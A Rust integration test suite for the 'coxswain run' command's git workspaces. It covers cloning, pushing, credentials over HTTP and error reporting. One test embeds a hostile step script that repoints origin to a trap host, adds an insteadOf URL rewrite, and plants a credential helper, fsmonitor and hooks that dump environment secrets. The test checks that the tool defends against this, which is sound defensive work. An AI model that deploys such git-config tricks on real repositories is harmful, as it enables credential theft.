//! `coxswain run` with a workspace, end to end: the real `coxswain` binary
//! and the real `git`, against bare repositories each test makes in a
//! folder of its own and reaches by `file://` URL, or serves from a real
//! git server on 127.0.0.1 (`git daemon` over `git://`, or `git
//! http-backend` behind lighttpd with basic auth over `http://`).

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use coxswain_test_support::git_server::{GitDaemon, GitHttp, git};
use serde_json::Value;

mod common;

use common::{coxswain, exits, record, succeeded};

/// A bare repository with one commit on `main` (a README), and the folder
/// holding it; both removed at the end of the test.
struct Remote {
    dir: tempfile::TempDir,
    base: String,
}

impl Remote {
    fn new() -> Remote {
        let dir = tempfile::Builder::new()
            .prefix("coxswain-remote-")
            .tempdir()
            .expect("temp dir");
        let bare = dir.path().join("app.git");
        let init = ["init", "--quiet", "--bare", "--initial-branch=main"];
        git(dir.path(), &[&init[..], &["app.git"]].concat());
        let seed = dir.path().join("seed");
        git(
            dir.path(),
            &["clone", "--quiet", bare.to_str().expect("utf-8"), "seed"],
        );
        let base = commit_and_push(&seed, "README", "hello\n", "first");
        Remote { dir, base }
    }

    /// Adds a commit on `main` in the bare repo; its hash.
    fn commit_more(&self) -> String {
        let seed = self.dir.path().join("seed");
        commit_and_push(&seed, "NEWS", "more\n", "second")
    }

    fn bare(&self) -> PathBuf {
        self.dir.path().join("app.git")
    }

    fn url(&self) -> String {
        format!("file://{}", self.bare().display())
    }

    /// The commit `branch` points to in the bare repo, if it is there.
    fn branch(&self, branch: &str) -> Option<String> {
        let out = Command::new("git")
            .arg("-C")
            .arg(self.bare())
            .args([
                "rev-parse",
                "--verify",
                "--quiet",
                &format!("refs/heads/{branch}"),
            ])
            .output()
            .expect("git runs");
        out.status
            .success()
            .then(|| String::from_utf8_lossy(&out.stdout).trim().to_string())
    }
}

/// Writes `text` to `file` in the checkout `seed`, commits it as
/// `message` and pushes it to `main`; the new commit's hash.
fn commit_and_push(seed: &Path, file: &str, text: &str, message: &str) -> String {
    std::fs::write(seed.join(file), text).unwrap_or_else(|e| panic!("write {file}: {e}"));
    git(seed, &["add", file]);
    let committer = ["-c", "user.name=t", "-c", "user.email=t@example.com"];
    git(
        seed,
        &[&committer[..], &["commit", "--quiet", "-m", message]].concat(),
    );
    git(seed, &["push", "--quiet", "origin", "HEAD:refs/heads/main"]);
    git(seed, &["rev-parse", "HEAD"])
}

/// A flow file with `workspace` and `steps` (YAML indented for `spec:`).
fn flow(dir: &Path, workspace: &str, steps: &str) -> String {
    let text = format!(
        "apiVersion: coxswain.dev/v1alpha1\nkind: Flow\nmetadata: {{name: ws}}\nspec:\n  workspace:\n{workspace}  steps:\n{steps}"
    );
    let path = dir.join("flow.yaml");
    std::fs::write(&path, text).expect("write flow");
    path.display().to_string()
}

impl Remote {
    /// A flow of `steps` on [`app_workspace`] in the remote's folder;
    /// returns its path.
    fn app_flow(&self, steps: &str) -> String {
        flow(self.dir.path(), &app_workspace(self), steps)
    }
}

/// The repo `app` of `remote` at `main`, pushed on success.
fn app_workspace(remote: &Remote) -> String {
    format!(
        "    repos:\n      - {{name: app, url: \"{}\", ref: main}}\n    push: onSuccess\n",
        remote.url()
    )
}

/// A step the run must never reach.
const NEVER: &str = "    - key: never\n      script: {source: 'echo ran'}\n";

const EDIT_AND_READ: &str = r#"    - key: edit
      script:
        source: |
          set -e
          cd app
          test "$(git rev-parse --abbrev-ref HEAD)" = "$BRANCH"
          echo changed >> README
          git commit --quiet -am "edit on $BRANCH"
          echo "the report" > "$OUTPUTS/report.txt"
          printf '{"commit": "%s", "report": "report.txt"}' "$(git rev-parse HEAD)"
        output:
          fields: [{name: commit, type: string}, {name: report, type: file}]
    - key: read
      input: {report: $steps.edit.output.report}
      script:
        source: |
          set -e
          report=$(sed 's/^{"data":"\(.*\)"}$/\1/' "$INPUTS/report")
          printf '{"head": "%s", "readme": "%s", "report": "%s"}' \
            "$(git -C app rev-parse HEAD)" "$(tail -n1 app/README)" "$(cat "$report")"
"#;

#[test]
fn a_step_commits_on_the_run_branch_a_later_one_reads_it_and_the_branch_is_pushed() {
    let remote = Remote::new();
    let file = remote.app_flow(EDIT_AND_READ);
    let r = succeeded(&coxswain(&["run", &file, "--output", "json"]));
    let ws = &r["workspace"];
    let branch = ws["branch"].as_str().expect("branch");
    assert!(branch.starts_with("coxswain/local-"), "{ws}");
    let edited = r["steps"]["edit"]["output"]["commit"]
        .as_str()
        .expect("edit's commit")
        .to_string();
    // The checkout started from main's commit; the push names the step's.
    assert_eq!(ws["repos"][0]["name"], "app");
    assert_eq!(ws["repos"][0]["ref"], "main");
    assert_eq!(ws["repos"][0]["commit"], remote.base.as_str());
    assert_eq!(ws["pushed"][0]["name"], "app");
    assert_eq!(ws["pushed"][0]["commit"], edited.as_str());
    assert_ne!(edited, remote.base);
    // The later step saw that commit and the changed file.
    let read = &r["steps"]["read"]["output"];
    assert_eq!(read["head"], edited.as_str());
    assert_eq!(read["readme"], "changed");
    // The bare repo has the branch at that commit, its parent main's.
    assert_eq!(remote.branch(branch).as_deref(), Some(edited.as_str()));
    let parent = git(&remote.bare(), &["rev-parse", &format!("{edited}^")]);
    assert_eq!(parent, remote.base);
    assert_eq!(remote.branch("main").as_deref(), Some(remote.base.as_str()));
    // The workspace was removed after the run.
    let volume = ws["volume"].as_str().expect("volume");
    assert!(!Path::new(volume).exists(), "{volume} is left behind");
}

#[test]
fn a_file_left_in_outputs_is_read_by_a_later_step_from_the_path_the_record_gives() {
    let remote = Remote::new();
    let file = remote.app_flow(EDIT_AND_READ);
    let o = coxswain(&["run", &file, "--output", "json", "--keep-workspace"]);
    let r = succeeded(&o);
    let volume = r["workspace"]["volume"]
        .as_str()
        .expect("volume")
        .to_string();
    let kept = format!("{volume}/.coxswain/outputs/edit/1/report.txt");
    let edit = &r["steps"]["edit"]["output"];
    assert_eq!(
        edit["report"],
        kept.as_str(),
        "the file field is the kept path"
    );
    assert_eq!(edit["files"], serde_json::json!([kept]));
    assert_eq!(r["steps"]["read"]["output"]["report"], "the report");
    // --keep-workspace keeps it and says where.
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert!(
        stderr.contains(&format!("workspace kept at {volume}")),
        "{stderr}"
    );
    assert_eq!(
        std::fs::read_to_string(&kept).expect("kept file"),
        "the report\n"
    );
    std::fs::remove_dir_all(&volume).expect("remove the kept workspace");
}

#[test]
fn two_runs_of_one_flow_never_share_a_workspace() {
    let remote = Remote::new();
    let steps = r#"    - key: mark
      script:
        source: |
          set -e
          test ! -e "$WORKSPACE/mark"
          echo "$RUN_NAME" > "$WORKSPACE/mark"
          sleep 0.3
          test "$(cat "$WORKSPACE/mark")" = "$RUN_NAME"
          printf '{"dir": "%s", "branch": "%s"}' "$WORKSPACE" "$BRANCH"
"#;
    let file = remote.app_flow(steps);
    let spawn = || {
        Command::new(env!("CARGO_BIN_EXE_coxswain"))
            .args(["run", &file, "--output", "json"])
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .expect("coxswain starts")
    };
    let (a, b) = (spawn(), spawn());
    let a = succeeded(&a.wait_with_output().expect("first run"));
    let b = succeeded(&b.wait_with_output().expect("second run"));
    let (oa, ob) = (&a["steps"]["mark"]["output"], &b["steps"]["mark"]["output"]);
    assert_ne!(oa["dir"], ob["dir"], "{oa} {ob}");
    assert_ne!(oa["branch"], ob["branch"], "{oa} {ob}");
    // Both branches reached the remote, each its own.
    for o in [oa, ob] {
        let branch = o["branch"].as_str().expect("branch");
        assert_eq!(remote.branch(branch).as_deref(), Some(remote.base.as_str()));
    }
}

#[test]
fn the_parts_of_a_parallel_step_read_the_checkout_and_keep_files_apart() {
    let remote = Remote::new();
    let steps = r#"    - key: each
      parallel:
        items: $input.names
        step:
          input: {name: $item}
          script:
            source: |
              set -e
              name=$(sed 's/^{"data":"\(.*\)"}$/\1/' "$INPUTS/name")
              echo "$name" > "$OUTPUTS/part.txt"
              printf '{"readme": "%s", "file": "part.txt"}' "$(cat app/README)"
            output:
              fields: [{name: readme, type: string}, {name: file, type: file}]
"#;
    let file = remote.app_flow(steps);
    let r = succeeded(&coxswain(&[
        "run",
        &file,
        "--output",
        "json",
        "--keep-workspace",
        "--input",
        r#"{"names": ["one", "two", "three"]}"#,
    ]));
    let parts = r["steps"]["each"]["parts"].as_array().expect("parts");
    assert_eq!(parts.len(), 3);
    let mut files = Vec::new();
    for part in parts {
        assert_eq!(part["output"]["readme"], "hello", "{part}");
        let path = part["output"]["file"].as_str().expect("kept path");
        assert_eq!(
            std::fs::read_to_string(path).expect("kept file").trim(),
            part["item"].as_str().expect("item"),
        );
        files.push(path.to_string());
    }
    files.sort();
    files.dedup();
    assert_eq!(files.len(), 3, "each part's file is kept apart: {files:?}");
    let volume = r["workspace"]["volume"].as_str().expect("volume");
    std::fs::remove_dir_all(volume).expect("remove the kept workspace");
}

#[test]
fn a_bad_ref_fails_the_run_before_its_first_step_naming_the_repo() {
    let remote = Remote::new();
    let workspace = format!(
        "    repos:\n      - {{name: app, url: \"{}\", ref: no-such-branch}}\n",
        remote.url()
    );
    let file = flow(remote.dir.path(), &workspace, NEVER);
    let o = coxswain(&["run", &file, "--output", "json"]);
    exits(&o, 1);
    let r = record(&o);
    assert_eq!(r["phase"], "Failed");
    assert_eq!(r["error"]["code"], "workspace.failed");
    let message = r["error"]["message"].as_str().expect("message");
    assert!(
        message.starts_with("repo `app` (")
            && message.contains("fetching the ref `no-such-branch` failed")
            && message.contains("no-such-branch"),
        "{message}"
    );
    assert!(r["steps"]["never"]["attempts"].is_null(), "{}", r["steps"]);
}

#[test]
fn credentials_that_cannot_be_read_fail_the_run_naming_the_repo_and_secret() {
    let remote = Remote::new();
    let workspace = format!(
        "    repos:\n      - {{name: app, url: \"{}\", secretRef: {{name: git-app}}}}\n",
        remote.url()
    );
    let file = flow(remote.dir.path(), &workspace, NEVER);
    let o = Command::new(env!("CARGO_BIN_EXE_coxswain"))
        .args(["run", &file, "--output", "json"])
        .env("COXSWAIN_SECRET_GIT_APP_USERNAME", "ana")
        .output()
        .expect("coxswain runs");
    assert_eq!(o.status.code(), Some(1));
    let r = record(&o);
    let message = r["error"]["message"].as_str().expect("message");
    assert!(
        message.starts_with("repo `app`: cannot read its credentials from the secret `git-app`")
            && message.contains("COXSWAIN_SECRET_GIT_APP_PASSWORD"),
        "{message}"
    );
}

#[test]
fn an_existing_checkout_is_used_as_it_is_and_nothing_is_pushed() {
    let remote = Remote::new();
    let mine = tempfile::tempdir().expect("temp dir");
    git(
        mine.path(),
        &[
            "clone",
            "--quiet",
            remote.bare().to_str().expect("utf-8"),
            "app",
        ],
    );
    // The user's own checkout: its branch is left as it is, and the
    // commit carries a name of the script's choosing.
    let steps = r#"    - key: edit
      script:
        source: |
          set -e
          cd app
          test "$(git rev-parse --abbrev-ref HEAD)" = main
          echo changed >> README
          git -c user.name=me -c user.email=me@example.com commit --quiet -am "try $BRANCH"
          printf '{"commit": "%s"}' "$(git rev-parse HEAD)"
"#;
    let file = remote.app_flow(steps);
    let dir = mine
        .path()
        .canonicalize()
        .expect("canonical")
        .display()
        .to_string();
    // Given relative to where coxswain runs, it is recorded absolute.
    let o = Command::new(env!("CARGO_BIN_EXE_coxswain"))
        .args(["run", &file, "--output", "json", "--workspace", "."])
        .current_dir(mine.path())
        .output()
        .expect("coxswain runs");
    let r = succeeded(&o);
    let ws = &r["workspace"];
    assert_eq!(ws["volume"], dir.as_str());
    assert_eq!(ws["repos"][0]["commit"], remote.base.as_str());
    assert!(ws["pushed"].is_null(), "{ws}");
    // The edit happened in the given checkout, which stays.
    let edited = r["steps"]["edit"]["output"]["commit"]
        .as_str()
        .expect("commit");
    assert_eq!(
        git(&mine.path().join("app"), &["rev-parse", "HEAD"]),
        edited
    );
    let branch = ws["branch"].as_str().expect("branch");
    assert_eq!(remote.branch(branch), None, "nothing was pushed");
}

#[test]
fn lint_says_file_urls_are_for_coxswain_run_only() {
    let remote = Remote::new();
    let file = remote.app_flow(EDIT_AND_READ);
    let o = coxswain(&["lint", &file]);
    assert_eq!(o.status.code(), Some(1));
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        out.contains("workspace.repos[0].url: `file://")
            && out.contains("is a file URL, which only `coxswain run` can clone"),
        "{out}"
    );
}

#[test]
fn without_a_workspace_lint_and_run_warn_that_files_are_not_carried() {
    let dir = tempfile::tempdir().expect("temp dir");
    let text = r#"apiVersion: coxswain.dev/v1alpha1
kind: Flow
metadata: {name: nows}
spec:
  steps:
    - key: make
      script:
        source: |
          echo r > "$OUTPUTS/report.txt"
          echo '{"report": "report.txt"}'
        output:
          fields: [{name: report, type: file}]
"#;
    let file = dir.path().join("flow.yaml");
    std::fs::write(&file, text).expect("write flow");
    let file = file.display().to_string();
    let o = coxswain(&["lint", &file]);
    let out = String::from_utf8_lossy(&o.stdout);
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(0), "a warning refuses nothing: {out}");
    assert!(
        out.contains("flow nows: warning: line 12, column ")
            && out.contains("step make: script.output.fields[0].type: the script names a file it leaves in $OUTPUTS (`report`), but the flow declares no workspace"),
        "{out}"
    );
    assert!(err.contains("0 problems, 1 warning"), "{err}");
    // The run says so too; the file field stays as printed, the file is
    // checked to be there and listed by its name in $OUTPUTS.
    let o = coxswain(&["run", &file, "--output", "json"]);
    let r = succeeded(&o);
    assert!(
        String::from_utf8_lossy(&o.stderr)
            .contains("warning: step make: script.output.fields[0].type"),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    assert_eq!(r["steps"]["make"]["output"]["report"], "report.txt");
    assert_eq!(
        r["steps"]["make"]["output"]["files"],
        serde_json::json!(["report.txt"])
    );
    assert!(r["workspace"].is_null());
}

#[test]
fn a_file_field_naming_no_file_fails_the_attempt() {
    let remote = Remote::new();
    let steps = r#"    - key: make
      script:
        source: |
          echo '{"report": "missing.txt"}'
        output:
          fields: [{name: report, type: file}]
"#;
    let file = flow(remote.dir.path(), "    repos: []\n", steps);
    let o = coxswain(&["run", &file, "--output", "json"]);
    assert_eq!(o.status.code(), Some(1));
    let r = record(&o);
    let error = &r["steps"]["make"]["error"];
    assert_eq!(error["code"], "workflow.output_error");
    assert_eq!(
        error["message"],
        "the output field `report` is a file, but `missing.txt` is not a file the script left in $OUTPUTS (looked for missing.txt)"
    );
}

#[test]
fn refs_are_branches_or_commits_and_depth_limits_the_history() {
    let remote = Remote::new();
    let second = remote.commit_more();
    let url = remote.url();
    let workspace = format!(
        "    repos:\n      - {{name: shallow, url: \"{url}\"}}\n      - {{name: full, url: \"{url}\", ref: main, depth: 0}}\n      - {{name: pinned, url: \"{url}\", ref: \"{}\"}}\n",
        remote.base
    );
    let steps = r#"    - key: look
      script:
        source: |
          printf '{"shallow": %s, "full": %s, "pinned": "%s"}' \
            "$(git -C shallow rev-list --count HEAD)" "$(git -C full rev-list --count HEAD)" "$(git -C pinned rev-parse HEAD)"
"#;
    let file = flow(remote.dir.path(), &workspace, steps);
    let r = succeeded(&coxswain(&["run", &file, "--output", "json"]));
    let repos = r["workspace"]["repos"].as_array().expect("repos");
    let commits: Vec<&str> = repos.iter().filter_map(|c| c["commit"].as_str()).collect();
    assert_eq!(
        commits,
        [second.as_str(), second.as_str(), remote.base.as_str()]
    );
    assert!(repos[0]["ref"].is_null(), "the remote's HEAD: {}", repos[0]);
    let look = &r["steps"]["look"]["output"];
    assert_eq!(look["shallow"], 1, "depth 1 by default");
    assert_eq!(look["full"], 2, "depth 0 fetches all of it");
    assert_eq!(look["pinned"], remote.base.as_str());
}

#[test]
fn a_push_the_remote_refuses_fails_a_run_that_had_succeeded() {
    let remote = Remote::new();
    let hook = remote.bare().join("hooks/pre-receive");
    std::fs::write(
        &hook,
        "#!/bin/sh\necho 'pushes are closed today' >&2\nexit 1\n",
    )
    .expect("write hook");
    let mode = std::os::unix::fs::PermissionsExt::from_mode(0o755);
    std::fs::set_permissions(&hook, mode).expect("make the hook runnable");
    let file = remote.app_flow(EDIT_AND_READ);
    let o = coxswain(&["run", &file, "--output", "json"]);
    exits(&o, 1);
    let r = record(&o);
    assert_eq!(r["phase"], "Failed");
    assert_eq!(r["steps"]["read"]["status"], "completed");
    assert_eq!(r["error"]["code"], "workspace.failed");
    let message = r["error"]["message"].as_str().expect("message");
    assert!(
        message.starts_with("repo `app` (")
            && message.contains("pushing the branch `coxswain/local-")
            && message.contains("pushes are closed today"),
        "{message}"
    );
    assert!(r["workspace"]["pushed"].is_null(), "{}", r["workspace"]);
}

#[test]
fn push_always_pushes_the_branch_of_a_run_that_failed() {
    let remote = Remote::new();
    let workspace = format!(
        "    repos:\n      - {{name: app, url: \"{}\"}}\n    push: always\n",
        remote.url()
    );
    let steps = r#"    - key: work
      script:
        source: |
          cd app && echo half >> README && git commit --quiet -am "half done"
          echo 'gave up' >&2
          exit 3
"#;
    let file = flow(remote.dir.path(), &workspace, steps);
    let o = coxswain(&["run", &file, "--output", "json"]);
    assert_eq!(o.status.code(), Some(1));
    let r = record(&o);
    assert_eq!(r["phase"], "Failed");
    assert_eq!(
        r["error"]["code"], "script.failed",
        "the run keeps its own error"
    );
    let branch = r["workspace"]["branch"].as_str().expect("branch");
    let pushed = r["workspace"]["pushed"][0]["commit"]
        .as_str()
        .expect("pushed");
    assert_ne!(pushed, remote.base);
    assert_eq!(remote.branch(branch).as_deref(), Some(pushed));
}

/// The repo `app` at `url`, read with the secret `git-app`, pushed on
/// success.
fn app_workspace_at(url: &str, secret: bool) -> String {
    let secret = if secret {
        ", secretRef: {name: git-app}"
    } else {
        ""
    };
    format!(
        "    repos:\n      - {{name: app, url: \"{url}\", ref: main{secret}}}\n    push: onSuccess\n"
    )
}

/// `coxswain run FILE --output json` with the secret `git-app` given by
/// `env` (`(KEY, value)`: `COXSWAIN_SECRET_GIT_APP_<KEY>`) and no other
/// key of it, whatever this process has.
fn run_with_secret(file: &str, env: &[(&str, &str)]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_coxswain"));
    command.args(["run", file, "--output", "json"]);
    for key in ["TOKEN", "USERNAME", "PASSWORD"] {
        command.env_remove(format!("COXSWAIN_SECRET_GIT_APP_{key}"));
    }
    for (key, value) in env {
        command.env(format!("COXSWAIN_SECRET_GIT_APP_{key}"), value);
    }
    command.output().expect("coxswain runs")
}

/// Checks a run of [`EDIT_AND_READ`] that pushed to a server: the record
/// names the step's commit as pushed, and `branch` (read on the server)
/// has it, a child of main's `base` with the step's message.
fn pushed_the_edit(
    r: &Value,
    base: &str,
    branch: impl Fn(&str) -> Option<String>,
    log: impl Fn(&str) -> String,
) {
    let ws = &r["workspace"];
    let name = ws["branch"].as_str().expect("branch");
    assert!(name.starts_with("coxswain/local-"), "{ws}");
    assert_eq!(ws["repos"][0]["commit"], base, "{ws}");
    let edited = r["steps"]["edit"]["output"]["commit"]
        .as_str()
        .expect("edit's commit");
    assert_ne!(edited, base);
    assert_eq!(r["steps"]["read"]["output"]["head"], edited);
    assert_eq!(ws["pushed"][0]["name"], "app", "{ws}");
    assert_eq!(ws["pushed"][0]["commit"], edited, "{ws}");
    assert_eq!(branch(name).as_deref(), Some(edited), "the server's {name}");
    assert_eq!(
        log(name),
        format!("{edited} {base} edit on {name}\n{base}  first")
    );
    assert_eq!(branch("main").as_deref(), Some(base), "main is left alone");
}

/// [`pushed_the_edit`] with the branch and log read from `http`'s `app`.
fn pushed_over_http(r: &Value, base: &str, http: &GitHttp) {
    pushed_the_edit(
        r,
        base,
        |b| http.branch("app", b),
        |b| http.log("app", b, "%H %P %s"),
    );
}

/// A flow of [`EDIT_AND_READ`] in `dir` on the workspace of
/// [`app_workspace_at`]`(url, secret)`; returns its path.
fn edit_and_read(dir: &Path, url: &str, secret: bool) -> String {
    flow(dir, &app_workspace_at(url, secret), EDIT_AND_READ)
}

/// All `coxswain` printed, stdout then stderr.
fn printed(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

#[test]
fn over_git_protocol_a_step_commits_and_the_branch_reaches_the_daemon() {
    let daemon = GitDaemon::start().expect("git daemon starts");
    let repo = daemon.create_repo("app");
    let dir = tempfile::tempdir().expect("temp dir");
    let file = edit_and_read(dir.path(), &repo.url, false);
    let r = succeeded(&coxswain(&["run", &file, "--output", "json"]));
    assert_eq!(r["workspace"]["repos"][0]["url"], repo.url.as_str());
    pushed_the_edit(
        &r,
        &repo.commit,
        |b| daemon.branch("app", b),
        |b| daemon.log("app", b, "%H %P %s"),
    );
}

#[test]
fn over_http_a_username_and_password_secret_clones_and_pushes() {
    let password = "pw-7c2e91d4";
    let http = GitHttp::start("ana", password).expect("lighttpd starts");
    let repo = http.create_repo("app");
    let dir = tempfile::tempdir().expect("temp dir");
    // The server wants them: without the secret the checkout fails.
    let bare = edit_and_read(dir.path(), &repo.url, false);
    let o = run_with_secret(&bare, &[]);
    exits(&o, 1);
    assert_eq!(record(&o)["error"]["code"], "workspace.failed");
    let file = edit_and_read(dir.path(), &repo.url, true);
    let o = run_with_secret(&file, &[("USERNAME", "ana"), ("PASSWORD", password)]);
    let r = succeeded(&o);
    pushed_over_http(&r, &repo.commit, &http);
    let said = printed(&o);
    assert!(!said.contains(password), "the password was printed: {said}");
}

#[test]
fn over_http_wrong_credentials_fail_the_run_before_its_first_step_and_stay_secret() {
    let http = GitHttp::start("ana", "pw-right-0e4b").expect("lighttpd starts");
    let repo = http.create_repo("app");
    let dir = tempfile::tempdir().expect("temp dir");
    let file = flow(dir.path(), &app_workspace_at(&repo.url, true), NEVER);
    let wrong = "pw-wrong-5f3a0b";
    let o = run_with_secret(&file, &[("USERNAME", "ana"), ("PASSWORD", wrong)]);
    let said = printed(&o);
    assert_eq!(o.status.code(), Some(1), "{said}");
    assert!(!said.contains(wrong), "the password was printed: {said}");
    let r = record(&o);
    assert_eq!(r["phase"], "Failed");
    assert_eq!(r["error"]["code"], "workspace.failed");
    let message = r["error"]["message"].as_str().expect("message");
    assert!(
        message.starts_with(&format!(
            "repo `app` ({}): fetching the ref `main` failed",
            repo.url
        )) && message.contains("Authentication failed"),
        "{message}"
    );
    assert!(r["steps"]["never"]["attempts"].is_null(), "{}", r["steps"]);
    assert!(r["workspace"]["pushed"].is_null(), "{}", r["workspace"]);
    assert_eq!(
        http.log("app", "main", "%H"),
        repo.commit,
        "nothing reached the server"
    );
}

#[test]
fn over_http_a_token_secret_is_the_password_of_x_access_token() {
    let token = "tok-3e8d1c0a9b";
    let http = GitHttp::start("x-access-token", token).expect("lighttpd starts");
    let repo = http.create_repo("app");
    let dir = tempfile::tempdir().expect("temp dir");
    let file = edit_and_read(dir.path(), &repo.url, true);
    let o = run_with_secret(&file, &[("TOKEN", token)]);
    let r = succeeded(&o);
    pushed_over_http(&r, &repo.commit, &http);
    let said = printed(&o);
    assert!(!said.contains(token), "the token was printed: {said}");
}

/// The steps of a hostile script (issue 32, item 5): after an honest
/// commit it points `origin` at `TRAP` (and every URL of the honest server
/// there too, with `insteadOf`), plants a `pre-push` and a
/// `reference-transaction` hook, `core.fsmonitor` and a credential helper,
/// each writing its environment (the password, if git handed it one) into
/// `EVIDENCE`.
const HOSTILE: &str = r#"    - key: edit
      script:
        source: |
          set -e
          cd app
          echo changed >> README
          git commit --quiet -am "edit on $BRANCH"
          git remote set-url origin "TRAP/app.git"
          git config url."TRAP/".insteadOf "HONEST/"
          git config credential.helper '!f() { env >> "EVIDENCE/helper"; }; f'
          git config core.fsmonitor "EVIDENCE/fsmonitor.sh"
          for hook in pre-push reference-transaction post-update; do
            printf '#!/bin/sh\nenv >> "EVIDENCE/%s"\n' "$hook" > ".git/hooks/$hook"
            chmod +x ".git/hooks/$hook"
          done
          printf '{"commit": "%s"}' "$(git rev-parse HEAD)"
"#;

#[test]
fn a_step_that_repoints_origin_and_plants_hooks_never_gets_the_credentials() {
    use coxswain_test_support::auth_trap::AuthTrap;
    let password = "pw-e5e1d7a2c3";
    let http = GitHttp::start("ana", password).expect("lighttpd starts");
    let repo = http.create_repo("app");
    let trap = AuthTrap::start().expect("the trap listens");
    let dir = tempfile::tempdir().expect("temp dir");
    let evidence = dir.path().join("evidence");
    std::fs::create_dir(&evidence).expect("evidence dir");
    let fsmonitor = evidence.join("fsmonitor.sh");
    std::fs::write(
        &fsmonitor,
        format!("#!/bin/sh\nenv >> \"{}/fsmonitor\"\n", evidence.display()),
    )
    .expect("write fsmonitor");
    git(dir.path(), &["init", "--quiet", "control"]);
    Command::new("chmod")
        .arg("+x")
        .arg(&fsmonitor)
        .status()
        .expect("chmod");

    // The trap works: git with a helper that has credentials sends them.
    let control = Command::new("git")
        .args([
            "-c",
            "credential.helper=!f() { echo username=u; echo password=canary-1; }; f",
            "ls-remote",
            &trap.url("control.git"),
        ])
        .env("GIT_TERMINAL_PROMPT", "0")
        .output()
        .expect("git runs");
    assert!(!control.status.success());
    assert!(
        !trap.seen().authorizations.is_empty(),
        "the trap records a login: {:?}",
        trap.seen()
    );
    let before = trap.seen().requests.len();

    let honest_base = format!("http://127.0.0.1:{}", http.port());
    let steps = HOSTILE
        .replace("TRAP", trap.url("").trim_end_matches('/'))
        .replace("HONEST", &honest_base)
        .replace("EVIDENCE", &evidence.display().to_string());
    let file = flow(dir.path(), &app_workspace_at(&repo.url, true), &steps);
    let o = run_with_secret(&file, &[("USERNAME", "ana"), ("PASSWORD", password)]);
    let said = printed(&o);
    let seen = trap.seen();
    assert_eq!(
        seen.requests.len(),
        before,
        "nothing reached the trap: {seen:?}\n{said}"
    );
    let mut ran: Vec<String> = std::fs::read_dir(&evidence)
        .expect("evidence")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .filter(|n| n != "fsmonitor.sh")
        .collect();
    ran.sort();
    assert!(
        ran.is_empty(),
        "planted commands ran during the push: {ran:?}"
    );
    let r = succeeded(&o);
    let edited = r["steps"]["edit"]["output"]["commit"]
        .as_str()
        .expect("edit's commit");
    let branch = r["workspace"]["branch"].as_str().expect("branch");
    assert_eq!(r["workspace"]["pushed"][0]["commit"], edited, "{said}");
    assert_eq!(
        http.branch("app", branch).as_deref(),
        Some(edited),
        "the push went to the flow's URL"
    );
    assert!(!said.contains(password), "the password was printed: {said}");
}
